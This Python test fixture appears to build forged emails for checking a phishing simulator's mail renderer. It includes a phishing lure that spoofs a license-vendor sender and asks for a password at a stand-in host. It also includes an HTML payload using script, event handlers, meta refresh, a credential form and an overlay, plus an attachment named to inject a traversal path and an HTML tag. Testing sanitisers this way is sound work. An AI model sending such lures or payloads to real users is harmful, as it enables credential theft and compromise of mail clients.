"""Mails as forgers write them: one to be looked at, and one that tries whatever HTML can."""

from __future__ import annotations

from email.message import EmailMessage
from email.policy import SMTP

SENDER = "License Key Team <ibmss@flexnetoperations.com>"
PHISHING = """<div style="font-family: Georgia, serif; color: #222">
<h2 style="color: #b00">Your license keys will be switched off today</h2>
<p>Dear customer,</p>
<p>our new license server has not taken over your account. To keep your keys, confirm your password before 6 p.m.:</p>
<p><a href="http://keys-renewal.example/flexnet/confirm" style="background: #b00; color: white; padding: 8px 16px">
Confirm now</a></p>
<p><small>This is a simulated forgery, made for the LKC Simulator.</small></p>
</div>"""
HOSTILE = """<html><head><meta http-equiv="refresh" content="0;url=http://elsewhere.example/refreshed">
<base href="http://elsewhere.example/" target="_top"><link rel="stylesheet" href="http://elsewhere.example/style.css">
<link rel="preconnect" href="http://elsewhere.example"></head><body onload="top.harmed = true">
<script>top.harmed = true; document.cookie = "harmed=1";</script>
<img src="http://elsewhere.example/pixel.png" alt="" onerror="top.harmed = true">
<form action="http://elsewhere.example/password"><input name="password"><button id="give">Sign in</button></form>
<iframe src="http://elsewhere.example/frame"></iframe><p style="background: url(http://elsewhere.example/x.png)">Hello</p>
<a id="away" href="http://elsewhere.example/" target="_top">Your keys</a><div style="position:fixed;inset:0;z-index:9">
</div></body></html>"""


def forgery(to: str, html: str) -> bytes:
    """A mail to somebody, with a file attached whose name is none."""
    mail = EmailMessage(policy=SMTP)
    mail["From"], mail["To"] = SENDER, to
    mail["Subject"] = "<b>Your license keys</b> will be switched off today"
    mail.set_content("Confirm your password before 6 p.m.: http://keys-renewal.example/flexnet/confirm\n")
    mail.add_alternative(html, subtype="html")
    mail.add_attachment(b"MZ\0", "application", "x-msdownload", filename='../<img src="x">.exe')
    return mail.as_bytes()
